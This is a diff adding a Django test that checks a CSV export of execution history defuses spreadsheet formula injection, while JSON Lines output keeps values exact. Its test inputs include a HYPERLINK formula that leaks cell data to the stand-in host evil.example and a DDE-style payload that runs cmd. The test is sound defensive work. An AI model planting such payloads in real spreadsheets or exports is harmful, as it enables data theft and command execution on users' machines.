@@ -11,7 +11,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
-from codeengine_ui.catalog.models import Function, Instance
+from codeengine_ui.catalog.models import AccessToken, Function, Instance
 from codeengine_ui.runs.models import Execution, ExecutionStatus
 from tests.conftest import make_token, save_demo_function, stored_run
 
@@ -213,3 +213,29 @@ def test_history_page_runs_a_constant_number_of_queries(
 
     assert queries() == with_one_row
     assert with_one_row <= 7  # session, user, role, the page, and the filter menus' options
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    member_client, django_user_model, greet, developer_token
+):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+    AccessToken.objects.filter(pk=developer_token.pk).update(label=formula)
+    developer_token.refresh_from_db()
+    plus = django_user_model.objects.create_user("+cmd|' /C calc'!A0")
+    at = django_user_model.objects.create_user("@SUM(1+1)*cmd")
+    stored_run(greet, developer_token, plus, {"name": "-2+3"}, domo_execution_id="=1+1")
+    stored_run(greet, developer_token, at, {"name": "Ada"}, error_message="\tTAB", status="error")
+
+    csv_text = b"".join(member_client.get("/executions/export.csv").streaming_content).decode()
+    jsonl = b"".join(member_client.get("/executions/export.jsonl").streaming_content).decode()
+
+    rows = list(csv.DictReader(io.StringIO(csv_text)))
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not [value for row in rows for value in row.values() if value.startswith(dangerous)]
+    assert {row["token_label"] for row in rows} == {"'" + formula}
+    assert {row["requested_by"] for row in rows} == {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"}
+    assert "'=1+1" in {row["domo_execution_id"] for row in rows}
+    assert "'\tTAB" in {row["error_message"] for row in rows}
+    records = [json.loads(line) for line in jsonl.splitlines()]
+    assert {record["token_label"] for record in records} == {formula}, "JSON Lines stay exact"
+    assert "=1+1" in {record["domo_execution_id"] for record in records}
